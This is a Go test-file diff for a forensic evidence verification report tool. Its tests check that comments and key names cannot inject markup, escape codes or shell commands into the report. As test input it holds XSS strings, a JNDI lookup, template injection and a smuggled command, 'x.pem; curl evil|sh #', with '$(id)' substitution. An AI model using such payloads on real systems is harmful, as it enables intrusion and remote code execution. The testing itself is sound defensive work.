@@ -24,7 +24,7 @@ const (
 
 	// hostile is what a requestor can put into a comment.
 	hostile = "</script><script>alert(1)</script> <img src=x onerror=alert(1)> \"quoted\" \x1b[2J \x00 \u202e " +
-		"' --> ${jndi:ldap://x} {{7*7}} \r\n\r\nVERIFIED javascript:alert(1) Ünï © 漢字"
+		"' --> ${jndi:ldap://x} {{7*7}} \r\n\r\nPASS javascript:alert(1) Ünï © 漢字"
 )
 
 var at = time.Date(2026, 3, 4, 5, 6, 7, 891_000_000, time.UTC)
@@ -96,13 +96,19 @@ func summary(m custody.Manifest) verify.Summary {
 	for _, check := range []verify.Check{verify.CheckManifest, verify.CheckSignature, verify.CheckObject} {
 		s.Results = append(s.Results, verify.Result{Check: check, Verdict: verify.VerdictOK})
 	}
-	s.Results = append(s.Results, verify.Result{
-		Check: verify.CheckLock, Verdict: verify.VerdictNotChecked, Why: "this is a copy, which has none",
-	})
-	return verify.Summary{
-		Subjects: []verify.Subject{s}, Scope: verify.Scope{Key: s.Key}, KeysCame: true,
-		EndedAt: at.AddDate(0, 3, 0),
+	sum := verify.Summary{Scope: verify.Scope{Key: s.Key}, EndedAt: at.AddDate(0, 3, 0)}
+	if m.Outcome == custody.OutcomeArchived {
+		lock := verify.Result{
+			Check: verify.CheckLock, Verdict: verify.VerdictNotChecked, Why: "this is a copy, which has none",
+		}
+		s.Results = append(s.Results, lock)
+		sum.Gaps = []verify.Gap{
+			{Check: verify.CheckLock, Why: lock.Why, Manifests: 1},
+			{Check: verify.CheckKey, Why: verify.WhyKeyNotTrusted},
+		}
 	}
+	sum.Subjects = []verify.Subject{s}
+	return sum
 }
 
 func write(t *testing.T, sum verify.Summary) (text, page string) {
@@ -169,6 +175,7 @@ func TestHostile(t *testing.T) {
 		}
 		sum := summary(m)
 		sum.Findings = []verify.Finding{{Key: hostile, Check: verify.CheckObject, What: hostile, Found: hostile}}
+		sum.Problems = []verify.Problem{{Finding: sum.Findings[0], Because: sum.Findings}}
 		text, page := write(t, sum)
 		for _, bad := range []string{"\x1b", "\x00", "\u202e", "\r"} {
 			if strings.Contains(text, bad) || strings.Contains(page, bad) {
@@ -181,12 +188,112 @@ func TestHostile(t *testing.T) {
 			}
 		}
 		for line := range strings.Lines(text) {
-			if strings.HasPrefix(line, "VERIFIED") {
+			if strings.HasPrefix(line, "VERIFIED") || strings.HasPrefix(line, "PASS") {
 				t.Errorf("a comment can say %q", line)
 			}
 		}
-		if !strings.Contains(text, "NOT VERIFIED on") || !strings.Contains(page, `class="verdict false"`) {
+		if !strings.Contains(text, "\nFAIL on") || !strings.Contains(page, `class="verdict FAIL"`) {
 			t.Error("it does not say that it is not verified")
+		}
+	}
+}
+
+// TestNothingToPaste: a name that nobody vouches for never stands in a command, and none is a part of
+// one that a shell would obey.
+func TestNothingToPaste(t *testing.T) {
+	t.Parallel()
+	const evil = "x.pem; curl evil|sh #"
+	for _, tt := range []struct {
+		name string
+		do   func(s *verify.Subject, sum *verify.Summary)
+	}{
+		{"a problem", func(_ *verify.Subject, sum *verify.Summary) {
+			sum.Problems = []verify.Problem{{Finding: verify.Finding{Key: "k", Check: verify.CheckLedger, What: "x"}}}
+		}},
+		{"a signature that is not one", func(s *verify.Subject, _ *verify.Summary) {
+			s.Results[1].Verdict = verify.VerdictLie
+		}},
+		{"a signature that was not checked", func(s *verify.Subject, _ *verify.Summary) {
+			s.Results[1].Verdict = verify.VerdictNotChecked
+		}},
+	} {
+		sum := summary(manifest(custody.OutcomeArchived))
+		sum.Subjects[0].Manifest.Signature.KeyID = evil
+		tt.do(&sum.Subjects[0], &sum)
+		text, page := write(t, sum)
+		if strings.Contains(text, "openssl") || strings.Contains(page, "openssl") ||
+			strings.Contains(text, "  $ ") {
+			t.Errorf("%s: there are commands in %s", tt.name, text)
+		}
+	}
+	sum := summary(manifest(custody.OutcomeArchived))
+	sum.Subjects[0].Manifest.Signature.KeyID = evil
+	sum.Subjects[0].ManifestKey = "packages/$(id)'.json"
+	text, _ := write(t, sum)
+	for _, want := range []string{`'` + evil + `.pem'`, `'$(id)'\''.json'`, `'$(id)'\''.json.sig'`} {
+		if !strings.Contains(text, want) {
+			t.Errorf("there is no %s in %s", want, text)
+		}
+	}
+}
+
+// TestLedgerReport: where the manifest is gone, the report says what the ledger knows, and that it
+// proves nothing.
+func TestLedgerReport(t *testing.T) {
+	t.Parallel()
+	m := manifest(custody.OutcomeArchived)
+	sum := summary(m)
+	s := &sum.Subjects[0]
+	s.Manifest, s.Results, sum.Gaps = custody.Manifest{}, nil, nil
+	s.Record = &investigation.Record{
+		Action: investigation.Action{
+			ID:        investigation.ID{TenantID: m.Action.TenantID, ActionID: m.Action.ID},
+			MachineID: m.Action.MachineID, ComputerDNSName: "fin-ws-17.contoso.com", CaseID: "INC-4711",
+			Requestor: "a.lindqvist@contoso.com", CreatedAt: at,
+		},
+		State:   investigation.StateDone,
+		Receipt: investigation.Receipt{Bucket: "evidence", Key: m.Object.Key, Size: 77, SHA256: digest("a")},
+		Seal:    investigation.Seal{Sequence: 7, Digest: digest("9")}, ManifestKey: s.ManifestKey,
+	}
+	f := verify.Finding{Key: s.ManifestKey, Check: verify.CheckLedger, What: "not in the archive", Headline: "manifest missing"}
+	sum.Problems = []verify.Problem{{Finding: f}}
+	text, page := write(t, sum)
+	for _, want := range []string{
+		"FAIL on", "manifest missing", "fin-ws-17.contoso.com, case INC-4711", digest("a"), digest("9"),
+		"77 bytes", "proves nothing by itself",
+	} {
+		if !strings.Contains(strings.Join(strings.Fields(text), " "), want) || !strings.Contains(page, want) {
+			t.Errorf("there is no %q in %s", want, text)
+		}
+	}
+	if strings.Contains(text, "openssl") {
+		t.Error("there are commands")
+	}
+	s.Record = nil
+	if _, err := report.New(sum, sum.Scope.Key); err == nil {
+		t.Error("a report was made of nothing")
+	}
+}
+
+// TestStrangers: what else lay there is named, by whoever knows of it, once.
+func TestStrangers(t *testing.T) {
+	t.Parallel()
+	m := manifest(custody.OutcomeArchived)
+	m.Strangers = []custody.Stranger{{Key: "packages/x.zip", VersionID: "v0", Size: 5, SHA256: digest("5"), FoundAt: at}}
+	m.StrangersMore = 2
+	sum := summary(m)
+	rec := investigation.Record{Strangers: investigation.Strangers("").Add(
+		investigation.Stranger(m.Strangers[0]),
+		investigation.Stranger{Key: "packages/x.json", Size: 6, Note: "it is too large", FoundAt: at})}
+	sum.Subjects[0].Record = &rec
+	text, _ := write(t, sum)
+	text = strings.Join(strings.Fields(text), " ")
+	for _, want := range []string{
+		"packages/x.zip, version v0, 5 bytes, SHA-256 " + digest("5") + ", found 4 March 2026",
+		"packages/x.json, 6 bytes, it is too large", "counts 2 more",
+	} {
+		if strings.Count(text, want) != 1 {
+			t.Errorf("%q is not there once in %s", want, text)
 		}
 	}
 }
